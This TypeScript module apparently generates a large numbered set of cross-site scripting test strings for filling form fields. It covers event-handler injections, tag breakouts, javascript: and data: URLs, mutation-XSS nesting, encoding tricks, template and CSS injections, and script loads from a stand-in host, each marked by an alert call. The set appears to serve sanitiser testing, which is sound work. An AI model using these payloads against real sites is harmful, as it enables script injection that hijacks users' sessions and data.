/** Strings that run as markup, script or style; each calls `alert` with its number. */

const HANDLED_TAGS = [
  'img',
  'video',
  'audio',
  'svg',
  'body',
  'iframe',
  'input',
  'details',
  'marquee',
  'object',
  'x',
] as const;
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
] as const;
const WAYS = [
  (tag: string, handler: string, call: string) => `<${tag} src=x ${handler}=${call}>`,
  (tag: string, handler: string, call: string) => `<${tag} src=x ${handler}="${call}" autofocus tabindex=1 open>`,
  (tag: string, handler: string, call: string) => `<${tag}/src='x'/${handler}='${call}'/>`,
  (tag: string, handler: string, call: string) => `<${tag.toUpperCase()}\tSRC=x\n${mixed(handler)}=${call}>`,
  (tag: string, handler: string, call: string) => `"><${tag} src=x ${handler}=${call}>`,
  (tag: string, handler: string, call: string) => `'><${tag} src=x ${handler}=${call}//`,
] as const;

const mixed = (word: string): string =>
  [...word].map((sign, at) => (at % 2 === 0 ? sign : sign.toUpperCase())).join('');
const entities = (text: string): string => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const hexEntities = (text: string): string =>
  [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join('');
const escapes = (text: string): string =>
  [...text].map((sign) => `\\u${sign.codePointAt(0)?.toString(16).padStart(4, '0')}`).join('');

type Make = (call: string, id: number) => string;

/** Breakouts, namespaces, addresses, templates, styles, mutations and characters that hide. */
const SPECIAL: readonly Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `]]><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script\n>${call}</script\n>`,
  (_, id) => `<script src=//xss.invalid/${id}></script>`,
  (_, id) => `<link rel=stylesheet href=//xss.invalid/${id}>`,
  (_, id) => `<img src=//xss.invalid/${id}>`,
  (_, id) => `<style>@import '//xss.invalid/${id}';</style>`,
  (_, id) => `<base href=//xss.invalid/${id}/>`,
  (_, id) => `<meta http-equiv=refresh content="0;url=//xss.invalid/${id}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${entities(call)}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<svg><set attributeName=onload to=${call}>`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<select><noembed></select><script>${call}</script>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="jav&#x09;ascript:${call}">x</a>`,
  (call) => `<a href=" &#14; javascript:${call}">x</a>`,
  (call) => `<a href="${entities(`javascript:${call}`)}">x</a>`,
  (call) => `<a href="${hexEntities(`javascript:${call}`)}">x</a>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">x</a>`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<iframe srcdoc="<img src=x onerror=${call}>">`,
  (call) => `<iframe src="data:text/html,<script>${call}</script>">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript://https://play.example/%0A${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  (call) => `vbscript:${call}`,
  (call) => `https://x.test/" onmouseover="${call}`,
  (call) => `https://x.test/' onfocus='${call}' autofocus='`,
  (call) => `" onfocus=${call} autofocus x="`,
  (call) => `' onmouseover=${call} '`,
  (call) => `" style="animation-name:x" onanimationstart="${call}`,
  (call) => `\` onerror=${call} \``,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{{${call}}}`,
  (call) => `[[${call}]]`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `[x]: javascript:${call}`,
  (call) => `<javascript:${call}>`,
  (call) => `*{background:url(javascript:${call})}`,
  (call) => `<style>*{background:url("javascript:${call}")}</style>`,
  (call) => `<div style="width:expression(${call})">x</div>`,
  (call) => `<div style="background:url(javascript:${call})">x</div>`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\\';${call};//`,
  (call) => `\`-${call}-\``,
  (call) => `</script><svg/onload=${call}>`,
  (call) => `${escapes('<')}img src=x onerror=${call}${escapes('>')}`,
  (call) => `%3Cimg%20src=x%20onerror=${call}%3E`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `\u202E<img src=x onerror=${call}>\u202C`,
  (call) => `<img\u00A0src=x\u2028onerror=${call}>`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `<img src=x onerror=\u00AD${call}>`,
  (call) => `<ıframe src=javascript:${call}>`,
  (call) => `<ſcript>${call}</ſcript>`,
  (call) => `=HYPERLINK("javascript:${call}")`,
  (call) => `+${call}`,
  (call) => `-${call}`,
  (call) => `@${call}`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<p onx=1 onpointerrawupdate=${call}>x</p>`,
  (call) => `<dialog open onclose=${call}><form method=dialog><button>x</button></form></dialog>`,
  (call) => `<xss id=x tabindex=1 onfocusin=${call}>x</xss>`,
  (call) => `<custom-element onconnected=${call} is=x>`,
  (call) => `<input type=hidden oncontentvisibilityautostatechange=${call} style=content-visibility:auto>`,
  (call) => `<a ping=//xss.invalid href=#x onclick=${call}>x</a>`,
  (call) => `<img src="x\`${'`'}onerror=${call}">`,
  (call) => `<img srcset=x onerror=${call}>`,
  (call) => `<q/oncut=${call}>`,
];

/** Some are short enough for a field of twenty characters. */
const SHORT: readonly Make[] = [
  (_, id) => `<q onclick=alert(${id})`,
  (_, id) => `<s/onload=alert(${id})`,
  (_, id) => `"onclick=alert(${id})`,
  (_, id) => `\${alert(${id})}`,
  (_, id) => `{{alert(${id})}}`,
  (_, id) => `';alert(${id})//`,
  (_, id) => `</p><b>${id}`,
];

export interface XssString {
  readonly id: number;
  readonly text: string;
}

/** All of them, each once. */
export function xssStrings(): readonly XssString[] {
  const makes: Make[] = [
    ...SPECIAL,
    ...HANDLED_TAGS.flatMap((tag) =>
      HANDLERS.flatMap((handler) =>
        WAYS.map(
          (way): Make =>
            (call) =>
              way(tag, handler, call),
        ),
      ),
    ),
    ...Array.from({ length: 5 }, () => SHORT).flat(),
  ];
  return makes.map((make, at) => {
    const id = 1000 + at;
    return { id, text: make(`alert(${id})`, id) };
  });
}

/** Hands out fitting strings in turn, so that all are used. */
export class XssSupply {
  readonly #all = xssStrings();
  readonly used = new Set<number>();
  #next = 0;

  get size(): number {
    return this.#all.length;
  }

  /** So many texts of at most so many characters, filled with strings. */
  take(count: number, max: number): string[] {
    const fitting = this.#all.filter(({ text }) => [...text].length <= max);
    return Array.from({ length: count }, () => {
      let text = '';
      for (let tries = 0; tries < fitting.length; tries++) {
        const one = fitting[this.#next % fitting.length];
        if (!one) break;
        const joined = text === '' ? one.text : `${text} ${one.text}`;
        if ([...joined].length > max) break;
        text = joined;
        this.used.add(one.id);
        this.#next++;
      }
      return text;
    });
  }
}
